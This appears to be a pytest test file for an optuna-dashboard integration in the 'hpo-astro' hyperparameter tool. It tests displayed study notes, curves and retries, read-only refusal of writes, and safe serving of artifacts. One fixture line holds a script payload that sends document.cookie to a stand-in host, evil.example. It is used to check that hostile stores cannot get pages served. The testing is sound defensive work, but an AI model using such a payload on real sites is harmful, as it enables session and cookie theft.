"""What optuna-dashboard shows of a study, read through the dashboard's own JSON API (its WSGI app, served on the store
`hpo-astro dashboard` opens): the objective's name, the study note, per-epoch curves one readable attribute each, none
of hpo-astro's internal attributes (configuration, worker, checkpoint pointer), why a retried trial failed and which
trial retried it, and the best weights downloadable from their trial, as downloads only, from the folder beside the
store or the one given with --artifacts, never from a folder the store names. The dashboard is read-only: its writes
are refused with a reason its page shows, and the page says so."""

from __future__ import annotations

import dataclasses
import io
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple
from wsgiref.util import setup_testing_defaults

import optuna
import pytest
import torch
from helpers import SMALL_SPACE, assert_refused, fake_train, invoke, store_url, study_config
from optuna.trial import TrialState

from hpo_astro.core.space import SearchSpace
from hpo_astro.results import dashboard as dashboard_module
from hpo_astro.results.dashboard import ReadOnlyArtifacts
from hpo_astro.store.record import (
    CHECKPOINT_ATTR,
    CURVE_PREFIX,
    HISTORY_ATTR,
    HISTORY_SYSTEM_ATTR,
    RETRY_OF_ATTR,
    WEIGHTS_MIMETYPE,
    WORKER_ATTR,
    internal_attr,
    params_full,
    trial_history,
)
from hpo_astro.study import run as run_module
from hpo_astro.study.run import StudyFailed, run_study

SERIES = ("train_loss", "train_accuracy", "val_loss", "val_accuracy", "val_roc_auc", "lr", "seconds")
INTERNAL = {"params_full", "worker", "worker_start", "checkpoint"}  # hpo-astro's own: never a shown user attribute
MAX_ATTR_LENGTH = 1024  # optuna-dashboard cuts an attribute's value here (optuna_dashboard._serializer)


class Reply(NamedTuple):
    status: str
    body: bytes
    headers: dict[str, str]  # names lower-cased


def _get(app: Callable, path: str, method: str = "GET", body: bytes = b"") -> Reply:
    """One request (GET unless `method` says otherwise) to a WSGI app."""
    environ: dict[str, Any] = {}
    setup_testing_defaults(environ)
    environ["PATH_INFO"], _, environ["QUERY_STRING"] = path.partition("?")
    environ["REQUEST_METHOD"], environ["wsgi.input"] = method, io.BytesIO(body)
    environ["CONTENT_LENGTH"], environ["CONTENT_TYPE"] = str(len(body)), "application/json"
    started: list[tuple[str, list[tuple[str, str]]]] = []
    chunks = app(environ, lambda line, headers, exc_info=None: started.append((line, headers)))
    try:
        body = b"".join(chunks)
    finally:
        getattr(chunks, "close", lambda: None)()
    (status, headers), *_ = started
    return Reply(status, body, {name.lower(): value for name, value in headers})


def crawl_dashboard(url: str, monkeypatch: pytest.MonkeyPatch, *options: object) -> dict[str, Any]:
    """Run `hpo-astro dashboard --storage URL OPTIONS...` with its server replaced by a crawl of the app it would
    serve, over the same store and artifact store: every study's detail, and every artifact a trial lists. The
    command's stderr is under "stderr"."""
    pages: dict[str, Any] = {}

    def run_server(storage: optuna.storages.BaseStorage, host: str, port: int, artifact_store: Any = None) -> None:
        assert host == "127.0.0.1"
        app = dashboard_module.dashboard_app(storage, artifact_store)
        pages["meta"] = json.loads(_get(app, "/api/meta").body)
        pages["studies"] = json.loads(_get(app, "/api/studies").body)["study_summaries"]
        for summary in pages["studies"]:
            study_id = summary["study_id"]
            status, body, _ = _get(app, f"/api/studies/{study_id}")
            assert status.startswith("200"), status
            detail = pages[summary["study_name"]] = json.loads(body)
            for trial in detail["trials"]:
                for artifact in trial["artifacts"]:
                    path = f"/artifacts/{study_id}/{trial['trial_id']}/{artifact['artifact_id']}"
                    pages[path] = _get(app, path)
        pages["app"] = app

    monkeypatch.setattr(dashboard_module, "run_server", run_server)
    result = invoke("dashboard", "--storage", url, *options)
    assert result.exit_code == 0, result.output
    pages["stderr"] = result.stderr
    return pages


def _attrs(trial: dict) -> dict[str, str]:
    return {a["key"]: a["value"] for a in trial["user_attrs"]}


@pytest.mark.parametrize(
    ("objective", "metric"), [("accuracy", "val_accuracy"), ("loss", "val_loss"), ("roc_auc", "val_roc_auc")]
)
def test_the_dashboard_shows_what_the_study_means(
    objective: str,
    metric: str,
    tmp_path: Path,
    small_file: Path,
    fake_training: None,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)  # the default store, optuna.db, here
    args = ["run", "--strategy", "random", "-n", "3", "--max-epochs", "3", "--data", str(small_file)]
    args += ["--study", "dash", "--objective", objective, "--checkpoint-interval", "0"]
    monkeypatch.setattr(sys, "argv", [".venv/bin/hpo-astro", *args])  # as a user types it, venv not activated
    ran = invoke(*args)
    assert ran.exit_code == 0, ran.output
    pages = crawl_dashboard("sqlite:///optuna.db", monkeypatch)
    study = pages["dash"]

    # the objective is named, not "Objective 0"
    assert study["objective_names"] == [metric]
    # the note says what the study is, the command that made it and how to resume it
    note = study["note"]["body"]
    assert "**random** search for **3 finished trials**" in note and f"`{objective}`" in note
    assert f"Made by `.venv/bin/hpo-astro {' '.join(args)}` in `{tmp_path}`" in note
    assert "run the same command again" in note
    assert f"`.venv/bin/hpo-astro worker --study dash --storage sqlite:///{tmp_path / 'optuna.db'}`" in note

    assert pages["meta"]["artifact_is_available"]
    (study_id,) = [s["study_id"] for s in pages["studies"] if s["study_name"] == "dash"]
    best = study["best_trials"][0]["number"]
    for trial in study["trials"]:
        attrs = _attrs(trial)
        # the objective per epoch where the dashboard draws it; every other series in its own short attribute
        assert [v["step"] for v in trial["intermediate_values"]] == [1, 2, 3]
        assert HISTORY_ATTR not in attrs
        for name in SERIES:
            shown = attrs[f"{CURVE_PREFIX}{name}"]
            assert len(shown) < MAX_ATTR_LENGTH and len(json.loads(shown)) == 3
        # hpo-astro's own attributes are not among those shown
        assert not INTERNAL & attrs.keys(), attrs.keys()
        # the best trial lists its weights, which the dashboard serves, as what they are: a binary file
        weights = [a for a in trial["artifacts"] if a["filename"].endswith("-weights.pt")]
        if trial["number"] == best:
            (artifact,) = weights
            assert artifact["mimetype"] == WEIGHTS_MIMETYPE == "application/octet-stream"
            status, body, _ = pages[f"/artifacts/{study_id}/{trial['trial_id']}/{artifact['artifact_id']}"]
            assert status.startswith("200")
            assert torch.load(io.BytesIO(body), weights_only=True).keys() == {"weight", "bias"}
    assert not list((tmp_path / "optuna.db.artifacts").glob("ckpt-*"))
    for stored in optuna.load_study(study_name="dash", storage="sqlite:///optuna.db").trials:
        # ... but kept for hpo-astro: the configuration, who ran it, and a checkpoint pointer that says it is gone
        assert params_full(stored) and internal_attr(stored, WORKER_ATTR)
        assert internal_attr(stored, CHECKPOINT_ATTR) == {"epoch": 3, "deleted": True}


def _improving(values: list[float]) -> Callable[..., Any]:
    """fake_train whose trials reach the given validation accuracies, in order."""
    remaining = iter(values)

    def train(*args: Any, **kwargs: Any) -> Any:
        result = fake_train(*args, **kwargs)
        metrics = dataclasses.replace(result.val_metrics, accuracy=next(remaining))
        return dataclasses.replace(result, val_metrics=metrics)

    return train


def test_every_weights_file_a_trial_lists_can_be_downloaded(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each new best used to delete the previous best's weights, which its trial still listed (Optuna cannot take an
    artifact off a finished trial): the dashboard offered files that were gone."""
    cfg = study_config(
        tmp_path, small_file, storage=store_url(tmp_path), n_trials=3, space=SearchSpace.from_dict(SMALL_SPACE)
    )
    result = run_study(cfg, train=_improving([0.6, 0.7, 0.8]))
    assert result.study.user_attrs["best_weights"]["trial"] == 2
    pages = crawl_dashboard(cfg.storage, monkeypatch)
    listed = [path for path in pages if path.startswith("/artifacts/")]
    assert len(listed) == 3  # one per trial: each was the best when it finished
    assert all(pages[path][0].startswith("200") for path in listed)


def test_pruned_and_failed_trials_point_at_no_deleted_checkpoint(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    space = SearchSpace.from_dict(SMALL_SPACE)
    two_trials = {"storage": store_url(tmp_path), "n_trials": 2, "space": space, "checkpoint_interval": 0}
    pruned_cfg = study_config(tmp_path, small_file, study="pruned", **two_trials)
    with monkeypatch.context() as patch:  # a pruner that prunes every trial after its first epoch
        patch.setattr(run_module, "make_pruner", lambda cfg: optuna.pruners.ThresholdPruner(lower=2.0))
        run_study(pruned_cfg, train=fake_train)

    class Fails:
        def on_epoch_end(self, state: object) -> None:
            raise ValueError("diverged")  # after the epoch's checkpoint (the objective's callbacks come first)

    def failing_train(*args: Any, callbacks: Any = (), **kwargs: Any) -> Any:
        return fake_train(*args, callbacks=[*callbacks, Fails()], **kwargs)

    failed_cfg = study_config(tmp_path, small_file, study="failed", **two_trials)
    with pytest.raises(StudyFailed):
        run_study(failed_cfg, train=failing_train)
    pages = crawl_dashboard(pruned_cfg.storage, monkeypatch)
    states = {"pruned": "Pruned", "failed": "Fail"}
    for name, state in states.items():
        trials = pages[name]["trials"]
        assert trials and all(t["state"] == state and not INTERNAL & _attrs(t).keys() for t in trials)
        for trial in optuna.load_study(study_name=name, storage=pruned_cfg.storage).trials:
            assert internal_attr(trial, CHECKPOINT_ATTR) == {"epoch": 1, "deleted": True}
    assert not list((tmp_path / "optuna.db.artifacts").glob("ckpt-*"))


def test_the_note_is_written_once_and_the_metric_name_also_on_an_older_study(
    tmp_path: Path, small_file: Path, fake_training: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = f"sqlite:///{tmp_path / 'optuna.db'}"
    first = ["run", "-n", "1", "--max-epochs", "1", "--data", str(small_file), "--storage", url]
    monkeypatch.setattr(sys, "argv", ["hpo-astro", *first])
    assert invoke(*first).exit_code == 0
    study = optuna.load_study(study_name="random", storage=url)
    study._storage.set_study_system_attr(study._study_id, "study:metric_names", None)  # as an earlier version left it
    extended = ["run", "-n", "2", "--max-epochs", "1", "--data", str(small_file), "--storage", url]
    monkeypatch.setattr(sys, "argv", ["hpo-astro", *extended])
    assert invoke(*extended).exit_code == 0
    detail = crawl_dashboard(url, monkeypatch)["random"]
    assert detail["objective_names"] == ["val_accuracy"]
    assert "-n 1 " in detail["note"]["body"] and "-n 2 " not in detail["note"]["body"]


def test_trial_history_reads_the_exact_copy_the_curves_and_the_old_attribute() -> None:
    rows = [
        {"epoch": 1, "train_loss": 0.693147180, "val_accuracy": 0.5, "lr": 0.001},
        {"epoch": 2, "train_loss": 0.512345678, "val_accuracy": 0.75, "lr": 0.000975528},
    ]
    curves = {"curve_train_loss": [0.6931, 0.5123], "curve_val_accuracy": [0.5, 0.75], "curve_lr": [0.001, 0.0009755]}

    def trial(user: dict, system: dict) -> optuna.trial.FrozenTrial:
        return optuna.trial.create_trial(value=0.75, user_attrs=user, system_attrs=system)

    assert trial_history(trial(curves, {HISTORY_SYSTEM_ATTR: rows})) == rows  # exact, whatever is shown
    assert trial_history(trial(curves, {})) == [  # a re-queued trial before its first checkpoint: the rounded curves
        {"epoch": 1, "train_loss": 0.6931, "val_accuracy": 0.5, "lr": 0.001},
        {"epoch": 2, "train_loss": 0.5123, "val_accuracy": 0.75, "lr": 0.0009755},
    ]
    assert trial_history(trial({HISTORY_ATTR: rows}, {})) == rows  # a study made by an earlier version
    assert trial_history(trial({}, {})) == []


def test_the_curves_are_written_with_each_checkpoint_and_at_the_end(tmp_path: Path, small_file: Path) -> None:
    """Not at every epoch: a store write per metric would cost a fast GPU epoch dearly. A running trial shows its
    curves up to its last checkpoint; a finished one, all of them, exactly."""
    cfg = study_config(
        tmp_path,
        small_file,
        storage=store_url(tmp_path),
        n_trials=1,
        max_epochs=4,
        space=SearchSpace.from_dict(SMALL_SPACE),
    )
    seen: list[int] = []

    def watching_train(*args: Any, callbacks: Any = (), **kwargs: Any) -> Any:
        class Watch:
            def on_epoch_end(self, state: Any) -> None:
                study = optuna.load_study(study_name=cfg.study_name, storage=cfg.storage)
                (running,) = study.get_trials(states=(TrialState.RUNNING,))
                seen.append(len(trial_history(running)))

        return fake_train(*args, callbacks=[*callbacks, Watch()], **kwargs)

    study = run_study(cfg, train=watching_train).study
    assert seen == [1, 1, 1, 1]  # checkpoint interval 10 s: only the first epoch's checkpoint within this trial
    (done,) = study.trials
    assert [row["epoch"] for row in trial_history(done)] == [1, 2, 3, 4]
    assert done.system_attrs[HISTORY_SYSTEM_ATTR] == trial_history(done)


def test_the_dashboards_artifact_store_is_read_only(tmp_path: Path) -> None:
    store = optuna.artifacts.FileSystemArtifactStore(str(tmp_path))
    store.write("abc-1", io.BytesIO(b"weights"))
    served = ReadOnlyArtifacts([tmp_path / "elsewhere", tmp_path])
    with served.open_reader("abc-1") as fh:
        assert fh.read() == b"weights"
    with pytest.raises(optuna.artifacts.exceptions.ArtifactNotFound):
        served.open_reader("abc-2")
    with pytest.raises(PermissionError):
        served.write("abc-3", io.BytesIO(b"x"))
    with pytest.raises(PermissionError):
        served.remove("abc-1")
    assert (tmp_path / "abc-1").exists()


# --- which artifacts are served, and how ------------------------------------------------------------------------

EVIL = b"<script>fetch('https://evil.example/?' + document.cookie)</script>"


def _hostile_store(tmp_path: Path, small_file: Path) -> tuple[str, Path]:
    """A store from someone else, with an empty artifact folder beside it: its study records another folder (one of
    the user's, say), where `evil.html` is listed on a trial as an artifact (Optuna's own record: text/html)."""
    store, elsewhere = tmp_path / "store", tmp_path / "elsewhere"
    store.mkdir()
    space = SearchSpace.from_dict(SMALL_SPACE)
    cfg = study_config(
        store, small_file, storage=store_url(store), n_trials=1, max_epochs=1, space=space, artifacts=elsewhere
    )
    run_study(cfg, train=fake_train)
    study = optuna.load_study(study_name=cfg.study_name, storage=cfg.storage)
    page = tmp_path / "evil.html"
    page.write_bytes(EVIL)
    trial = study.ask()
    store_in = optuna.artifacts.FileSystemArtifactStore(str(elsewhere))
    optuna.artifacts.upload_artifact(artifact_store=store_in, file_path=str(page), study_or_trial=trial)
    study.tell(trial, 0.5)
    (store / "optuna.db.artifacts").mkdir()
    return cfg.storage, elsewhere


def _artifact_replies(pages: dict[str, Any]) -> list[Reply]:
    return [reply for path, reply in pages.items() if path.startswith("/artifacts/")]


def _is_download(reply: Reply) -> bool:
    """Served as a download: never a type a browser renders, no sniffing, readable by no other origin."""
    return (
        reply.headers.get("content-type") == "application/octet-stream"
        and reply.headers.get("x-content-type-options") == "nosniff"
        and reply.headers.get("content-disposition") == "attachment"
        and not any(name.startswith("access-control-") for name in reply.headers)
    )


def test_a_folder_the_store_names_is_not_served(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It was: a hostile store could have the dashboard serve any folder's files as pages on its origin, readable
    by every site (`Access-Control-Allow-Origin: *`). Only the folder beside the store is served; a note says how to
    serve the other one."""
    url, elsewhere = _hostile_store(tmp_path, small_file)
    pages = crawl_dashboard(url, monkeypatch)
    replies = _artifact_replies(pages)
    assert len(replies) == 2  # the weights and evil.html, both in the folder the store names
    assert all(not reply.status.startswith("200") and EVIL not in reply.body for reply in replies)
    folder = elsewhere.resolve()
    assert pages["stderr"].splitlines() == [
        f"note: {folder} (the artifact folder of 'random') is not served; add --artifacts {folder} to serve it"
    ]


def test_the_folder_beside_the_store_is_served_as_downloads(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also for a store moved with its folder (the one its study recorded is gone): application/octet-stream, not
    the type recorded in the store, nosniff, and no CORS header; the dashboard's own pages keep their types."""
    made, moved = tmp_path / "made", tmp_path / "moved"
    made.mkdir()
    space = SearchSpace.from_dict(SMALL_SPACE)
    run_study(
        study_config(made, small_file, storage=store_url(made), n_trials=1, max_epochs=1, space=space), train=fake_train
    )
    made.rename(moved)
    pages = crawl_dashboard(f"sqlite:///{moved / 'optuna.db'}", monkeypatch)
    assert pages["stderr"] == ""
    (path,) = [path for path in pages if path.startswith("/artifacts/")]  # the weights, trial-0-weights.pt
    reply = pages[path]
    assert reply.status.startswith("200") and _is_download(reply)
    assert torch.load(io.BytesIO(reply.body), weights_only=True).keys() == {"weight", "bias"}
    # the same route spelled with a byte bottle drops when it reads the path
    sneaky = _get(pages["app"], "/\xff" + path[1:])
    assert sneaky.status.startswith("200") and sneaky.body == reply.body and _is_download(sneaky)
    assert _get(pages["app"], "/dashboard").headers["content-type"].startswith("text/html")
    assert _get(pages["app"], "/api/meta").headers["content-type"].startswith("application/json")


def test_the_artifacts_option_serves_that_folder(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, elsewhere = _hostile_store(tmp_path, small_file)
    pages = crawl_dashboard(url, monkeypatch, "--artifacts", elsewhere)
    assert pages["stderr"] == ""  # the folder the study records is the one served
    replies = _artifact_replies(pages)
    assert len(replies) == 2 and all(reply.status.startswith("200") and _is_download(reply) for reply in replies)
    assert EVIL in [reply.body for reply in replies]  # a download, as any other file

    monkeypatch.setattr(dashboard_module, "run_server", lambda *a, **k: pytest.fail("must not start"))
    for bad in (tmp_path / "none", tmp_path / "evil.html"):
        assert_refused(invoke("dashboard", "--storage", url, "--artifacts", bad), f"--artifacts {bad} is not a folder")


def test_the_note_says_how_a_trial_is_evaluated(tmp_path: Path) -> None:
    """A study of several runs per configuration (`--eval-seeds`, `--folds`) says so in its note, with the split."""
    from helpers import fake_train, noise_splits, study_config

    from hpo_astro.results.dashboard import study_note
    from hpo_astro.study.run import run_study

    for name, overrides, expected in (
        ("one", {}, None),
        ("six", {"eval_seeds": 3, "folds": 2}, "the mean of 6 training runs (3 seed(s) x 2 fold(s))"),
    ):
        cfg = study_config(tmp_path, Path("unused"), study=name, n_trials=1, max_epochs=1, **overrides)
        study = run_study(cfg, train=fake_train, data=noise_splits()).study
        note = study_note(study, ["run"], "hpo-astro", tmp_path, cfg.storage)
        assert "split 0.7/0.15/0.15" in note
        assert (expected in note) if expected else ("training runs" not in note)


# --- read-only ----------------------------------------------------------------------------------------------------

WRITES = [  # what optuna-dashboard's page offers: create, rename, delete, note edits, uploads, artifact removal, ...
    ("POST", "/api/studies", {"study_name": "new", "directions": ["minimize"]}),
    ("POST", "/api/studies/{study}/rename", {"study_name": "renamed"}),
    ("DELETE", "/api/studies/{study}", None),
    ("PUT", "/api/studies/{study}/note", {"version": 1, "body": "mine"}),
    ("PUT", "/api/studies/{study}/{trial}/note", {"version": 1, "body": "mine"}),
    ("POST", "/api/artifacts/{study}/{trial}", {"file": "data:text/plain;base64,aGk=", "filename": "x.txt"}),
    ("POST", "/api/artifacts/{study}", {"file": "data:text/plain;base64,aGk=", "filename": "x.txt"}),
    ("DELETE", "/api/artifacts/{study}/{trial}/{artifact}", None),
    ("POST", "/api/trials/{trial}/tell", {"state": "Fail"}),
    ("POST", "/api/trials/{trial}/user-attrs", {"user_attrs": {"a": 1}}),
    ("POST", "/incompatible-rdb-schema", None),
]


def test_the_dashboard_refuses_every_write_with_a_reason_and_says_it_is_read_only(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """optuna-dashboard offers every write, which the read-only store answered with HTTP 500 and a traceback: each
    is refused before the app sees it (403, a reason the page shows), and the page carries a notice and hides the
    buttons of those writes."""
    space = SearchSpace.from_dict(SMALL_SPACE)
    cfg = study_config(tmp_path, small_file, storage=store_url(tmp_path), n_trials=1, max_epochs=1, space=space)
    run_study(cfg, train=fake_train)
    db = tmp_path / "optuna.db"
    before = db.read_bytes()
    pages = crawl_dashboard(cfg.storage, monkeypatch)
    app, (summary,) = pages["app"], pages["studies"]
    (trial,) = pages[summary["study_name"]]["trials"]
    (artifact,) = trial["artifacts"]
    ids = {"study": summary["study_id"], "trial": trial["trial_id"], "artifact": artifact["artifact_id"]}
    for method, path, payload in WRITES:
        reply = _get(app, path.format(**ids), method, json.dumps(payload).encode() if payload else b"")
        assert reply.status == "403 Forbidden", (method, path, reply.status, reply.body[:300])
        assert reply.headers["content-type"] == "application/json"
        assert json.loads(reply.body) == {"reason": dashboard_module.READ_ONLY_REASON}, (method, path)
    assert "this dashboard is read-only (hpo-astro dashboard)" in dashboard_module.READ_ONLY_REASON
    assert db.read_bytes() == before
    assert [s["study_name"] for s in json.loads(_get(app, "/api/studies").body)["study_summaries"]] == ["random"]

    page = _get(app, "/dashboard")
    assert page.status.startswith("200") and page.headers["content-type"].startswith("text/html")
    assert int(page.headers["content-length"]) == len(page.body) and "etag" not in page.headers
    assert "script-src 'self'" in page.headers["content-security-policy"]  # optuna-dashboard's policy kept
    html = page.body.decode()
    assert html.count('id="hpo-astro-read-only"') == 1 and "serves this store read-only" in html
    assert html.index("hpo-astro-read-only-style") < html.index("</head>") < html.index('id="hpo-astro-read-only"')
    for hidden in ('aria-label="delete study"', 'aria-label="rename study"', 'aria-label="delete artifact"'):
        assert f"button[{hidden}]" in html
    assert 'data-testid="AddBoxIcon"' in html and 'data-testid="EditIcon"' in html and 'input[type="file"]' in html
    assert _get(app, "/dashboard/studies/1").body == page.body  # the page, whatever client-side route it opens
    head = _get(app, "/dashboard", "HEAD")
    assert head.status.startswith("200") and head.body == b""
    meta = _get(app, "/api/meta")  # what the page reads is untouched
    assert meta.status.startswith("200") and json.loads(meta.body)["artifact_is_available"] is True


# --- a failed trial that was retried ----------------------------------------------------------------------------


def test_a_retried_trial_says_why_it_failed_and_which_trial_retried_it(
    tmp_path: Path, small_file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SIGTERM in the middle of a trial: the failed trial's note in the dashboard says why it failed and which trial
    retries it, from which checkpoint; the retry shows whom it retries and why."""

    class Terminated:
        def on_epoch_end(self, state: Any) -> None:
            if state.epoch == 2:  # after epoch 2's checkpoint (the objective's callbacks come first)
                raise KeyboardInterrupt("signal 15")  # what hpo_astro.study.interrupts raises on SIGTERM

    def terminated_train(*args: Any, callbacks: Any = (), **kwargs: Any) -> Any:
        return fake_train(*args, callbacks=[*callbacks, Terminated()], **kwargs)

    space = SearchSpace.from_dict(SMALL_SPACE)
    cfg = study_config(
        tmp_path, small_file, storage=store_url(tmp_path), n_trials=1, max_epochs=3, space=space, checkpoint_interval=0
    )
    with pytest.raises(KeyboardInterrupt):
        run_study(cfg, train=terminated_train)
    trials = crawl_dashboard(cfg.storage, monkeypatch)[cfg.study_name]["trials"]
    failed, retry = sorted(trials, key=lambda t: t["number"])
    assert (failed["state"], retry["state"]) == ("Fail", "Waiting")
    assert failed["note"]["body"] == (
        f"**Failed**: interrupted by SIGTERM. **Retried by trial {retry['number']}**, which resumes from its "
        "checkpoint of epoch 2."
    )
    assert json.loads(_attrs(retry)[RETRY_OF_ATTR]) == {"trial": failed["number"], "reason": "interrupted by SIGTERM"}
    assert RETRY_OF_ATTR not in _attrs(failed) and not INTERNAL & (_attrs(failed).keys() | _attrs(retry).keys())

    resumed = run_study(cfg, train=fake_train).study  # the retry runs, from the checkpoint it inherited
    done = resumed.trials[retry["number"]]
    assert done.state == TrialState.COMPLETE and done.user_attrs["resumed_from_epoch"] == 2
    assert done.user_attrs[RETRY_OF_ATTR]["trial"] == failed["number"]
